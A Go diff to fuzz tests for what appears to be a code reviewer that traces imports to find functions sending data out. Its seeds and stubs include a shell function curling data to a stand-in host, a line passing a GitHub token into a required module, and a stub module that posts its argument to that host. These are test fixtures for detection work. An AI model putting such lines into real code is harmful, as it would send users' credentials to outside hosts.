@@ -41,7 +41,7 @@ func FuzzScanners(f *testing.F) {
 func FuzzLocalImport(f *testing.F) {
 	for _, seed := range []string{
 		`. "$(dirname "$0")/lib.sh"`, "source ${BASH_SOURCE%/*}/x.sh", "from ..a.b import (c, d as e)", "import net",
-		`const s = require("./send")`, `import {a} from '../x.js'`, "source $", ". ${", "from . import x", "send() {\n curl https://a.example -d \"$1\"\n}\n",
+		`const s = require("./send")`, `import {a} from '../x.js'`, `require("./lib")(process.env.GH_TOKEN)`, "import ship from './lib.js'", "module.exports.send = async v => {", "source $", ". ${", "from . import x", "send() {\n curl https://a.example -d \"$1\"\n}\n",
 	} {
 		f.Add(seed)
 	}
@@ -49,7 +49,18 @@ func FuzzLocalImport(f *testing.F) {
 		if target, _, _, ok := localImport(line); ok && strings.HasPrefix(target, "/") {
 			t.Fatalf("absolute import target %q from %q", target, line)
 		}
-		s := summariseSends(line)
+		// The line as a file importing another that sends, one level.
+		lib := newSource("s/lib.js", "lib.js", "module.exports = (v) => fetch(\"https://a.example\", {body: v});\n")
+		main := newSource("s/main.js", "main.js", line)
+		r := &reviewer{files: []*source{main, lib}}
+		s := r.summariseSends(main, 1, new(int(maxChainFiles)))
+		if c, ok := inlineModuleCall(line); ok && !strings.Contains(c, defaultExport+"(") {
+			t.Fatalf("inline call %q of %q calls no default", c, line)
+		}
+		if a := moduleAlias(line); a != "" && !strings.Contains(line, a) {
+			t.Fatalf("alias %q not in %q", a, line)
+		}
+		exportedFn(line)
 		if len(s.fns) > maxSenders || len(s.top) > maxTopSinks {
 			t.Fatalf("summary past its bounds: %d functions, %d lines", len(s.fns), len(s.top))
 		}
@@ -58,5 +69,22 @@ func FuzzLocalImport(f *testing.F) {
 				t.Fatalf("%d bytes kept for one function", len(d))
 			}
 		}
+	})
+}
+
+// itemSpans reads any bytes without a panic, giving ordered spans inside
+// the text, each starting at a bracket.
+func FuzzItemSpans(f *testing.F) {
+	for _, seed := range []string{`[{"a": 1, "a": 2}, {"b": "]\"}"}]`, `[[1], {`, `"\`, `}}]]{{[[`} {
+		f.Add([]byte(seed))
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		last := 0
+		itemSpans(data, func(start, end int) {
+			if start < last || end > len(data) || start >= end || data[start] != '{' && data[start] != '[' {
+				t.Fatalf("span %d:%d after %d in %d bytes", start, end, last, len(data))
+			}
+			last = end
+		})
 	})
 }
